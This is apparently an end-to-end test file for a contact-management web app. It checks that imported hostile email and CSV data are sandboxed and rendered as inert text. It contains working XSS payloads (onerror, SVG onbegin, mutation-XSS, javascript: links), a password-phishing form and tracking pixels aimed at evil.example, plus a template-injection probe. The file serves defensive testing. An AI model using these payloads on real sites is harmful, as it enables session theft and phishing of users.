import type { Page, Request } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { House } from './house.fixture.ts'

let house: House
let page: Page
/** Everything that a page asked of anybody but the house. */
const outside: string[] = []

const password = 'grey seal on the quay'
const script = (mark: string) => `top.hacked=(top.hacked||'')+'${mark}'`
const html = `<html><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>@import url(https://evil.example/style.css); p { background: url(https://evil.example/rule.png) }</style>
</head><body>
<p>Dear Maren, the harmless part.</p>
<script>${script('script')};fetch('https://evil.example/fetch')</script>
<img src="https://evil.example/pixel.gif" width="1" height="1"><img src="//evil.example/second.png" alt="Our logo">
<img src="x" onerror="${script('onerror')}"><img srcset="https://evil.example/set.png 2x">
<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>
<iframe srcdoc="<script>${script('frame')}</script>"></iframe>
<svg><animate attributeName="x" dur="1s" onbegin="${script('svg')}"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script('math')}&gt;"></table></mtext></math>
<div style="position:fixed;inset:0;background:url(https://evil.example/cover.png)">Your session has ended</div>
<a href="javascript:${script('link')}">a link of its own</a> <a href="https://evil.example/page">a page elsewhere</a>
</body></html>`
const mail = (subject: string, body: string) =>
  [
    'From: "Eve <img src=x onerror=top.hacked=1>" <eve@evil.example>',
    'To: maren@ferrow.example',
    `Subject: ${subject}`,
    'Date: Mon, 02 Nov 2026 09:00:00 +0000',
    'Message-ID: <1@evil.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    body,
  ].join('\r\n')

const name = `<img src=x onerror="${script('name')}">`
const table = `Name,Email,Company,Title\n"${name.replaceAll('"', '""')}",probe@x.example,"<b>Company</b>","{{7*7}}"\nAna Reis,ana@reis.example,Brackmere,Engineer\n`

/** As the page itself would: with its cookie, from its origin. */
const call = (method: string, path: string, body?: unknown): Promise<unknown> =>
  page.evaluate(
    async ([how, where, what]) => {
      const answer = await fetch(String(where), {
        method: String(how),
        ...(typeof what === 'string'
          ? { body: what }
          : what === null
            ? {}
            : { body: JSON.stringify(what), headers: { 'content-type': 'application/json' } }),
      })
      const text = await answer.text()
      if (!answer.ok) throw new Error(`${answer.status} ${where}: ${text}`)
      return text === '' ? null : (JSON.parse(text) as unknown)
    },
    [method, path, (body ?? null) as never] as const,
  )

async function bring(path: string, content: string): Promise<void> {
  const { id } = (await call('POST', '/api/imports', { name: path })) as { id: string }
  await call('PUT', `/api/imports/${id}/files?path=${encodeURIComponent(path)}`, content)
  const { answers } = (await call('POST', `/api/imports/${id}/survey`)) as { answers: object }
  await call('PUT', `/api/imports/${id}/answers`, { ...answers, me: ['maren@ferrow.example'], add: ['all'] })
  await call('POST', `/api/imports/${id}/start`)
  const state = async () => ((await call('GET', `/api/imports/${id}`)) as { state: string }).state
  for (let now = await state(); now !== 'done'; now = await state()) {
    if (now !== 'running') throw new Error(`${path}: ${now}`)
    await page.waitForTimeout(100)
  }
}
const personOf = async (query: string): Promise<string> => {
  const find = async () =>
    ((await call('GET', `/api/people?q=${query}`)) as { rows: { id: string }[] }).rows[0]?.id ?? null
  await expect.poll(find, { timeout: 20_000 }).not.toBeNull()
  return (await find()) ?? ''
}
const hacked = () => page.evaluate(() => (window as unknown as { hacked?: string }).hacked ?? null)

beforeAll(async () => {
  house = await House.open()
  page = await house.page({ viewport: { width: 1440, height: 900 } })
  page.on('request', (request: Request) => {
    if (/^(https?|wss?):/.test(request.url()) && !request.url().startsWith(house.address)) outside.push(request.url())
  })
  await page.goto('/')
  await call('POST', '/api/setup', { agency: 'Ferrow', name: 'Maren Lund', email: 'maren@ferrow.example', password })
  await bring('people.csv', table)
  await bring('evil.eml', mail(`Hello <script>${script('subject')}</script>`, html))
}, 300_000)
afterAll(() => house?.close())

describe('mail that means harm', () => {
  it('is shown in its frame, asks nothing of anybody, and does nothing', async () => {
    await page.goto(`/people/${await personOf('eve')}`)
    await page
      .getByRole('link', { name: /^Hello/ })
      .first()
      .click()
    const frame = page.frameLocator('iframe[sandbox]')
    await frame.getByText('Dear Maren, the harmless part.').waitFor()
    await page.getByText(/pictures? from elsewhere left out/).waitFor()
    await page.waitForTimeout(1500)
    expect(await hacked()).toBeNull()
    expect(outside).toEqual([])
    const left = await frame.locator('body').evaluate(body => ({
      tags: [...new Set([...body.querySelectorAll('*')].map(one => one.tagName))].filter(tag =>
        /^(SCRIPT|FORM|INPUT|BUTTON|IFRAME|SVG|MATH|STYLE|BASE|META|LINK)$/i.test(tag),
      ),
      fixed: [...body.querySelectorAll('*')].filter(one => getComputedStyle(one).position === 'fixed').length,
      links: [...body.querySelectorAll('a')].map(one => [one.getAttribute('href'), one.rel]),
    }))
    expect(left).toEqual({
      tags: [],
      fixed: 0,
      links: [
        [null, expect.any(String)],
        ['https://evil.example/page', 'noopener noreferrer nofollow'],
      ],
    })
    expect(await page.locator('iframe[sandbox]').getAttribute('sandbox')).not.toContain('allow-scripts')
  })
})

describe('names that would like to be markup', () => {
  it('are the text that they are, on every page and in its title', async () => {
    const id = await personOf('probe')
    await call('POST', '/api/bulk', { people: [id], do: { tag: name.slice(0, 80), pool: name.slice(0, 80) } })
    await call('POST', '/api/jobs', { title: name, client: name })
    for (const path of ['/people', `/people/${id}`, '/companies', '/jobs', '/today', '/people?q=img&in=texts']) {
      await page.goto(path)
      await page.locator('main').waitFor()
      await page.waitForLoadState('networkidle').catch(() => undefined)
      expect([path, await hacked(), await page.locator('main img[src="x"], main b').count()]).toEqual([path, null, 0])
    }
    await page.goto(`/people/${id}`)
    await page.getByRole('heading', { level: 1, name }).waitFor()
    expect(await page.title()).toContain('<img src=x')
    expect(outside).toEqual([])
  })
})

describe('what was being typed', () => {
  const field = () =>
    page
      .locator('main')
      .getByRole('textbox', { name: /log|happened/i })
      .first()

  it('is kept without a connection, over a reload, and when the session ends: signing in happens in place', async () => {
    const id = await personOf('ana')
    await page.goto(`/people/${id}`)
    await page.getByRole('heading', { level: 1, name: 'Ana Reis' }).waitFor()
    await page.keyboard.press('l')
    await page.keyboard.type('called Ana, likes the river')
    await page.context().setOffline(true)
    await page.getByText('No connection. What you type is kept here.').waitFor()
    await page.keyboard.type(' and the view')
    await page.context().setOffline(false)
    await page.reload()
    await page.getByRole('heading', { level: 1, name: 'Ana Reis' }).waitFor()
    expect(await field().inputValue()).toBe('called Ana, likes the river and the view')
    await page.context().clearCookies()
    await field().focus()
    await page.keyboard.press('End')
    await page.keyboard.type('!')
    const dialog = page.getByRole('dialog', { name: 'Please sign in again' })
    await dialog.waitFor()
    await dialog.getByLabel('Password').fill(password)
    await dialog.getByRole('button', { name: 'Sign in' }).click()
    await dialog.waitFor({ state: 'detached' })
    expect(await field().inputValue()).toBe('called Ana, likes the river and the view!')
    await field().press('Enter')
    await page.locator('main').getByText('Last: call, today').waitFor()
  })
})

it('had no fault on the way', () => {
  expect(house.faults).toEqual([])
})
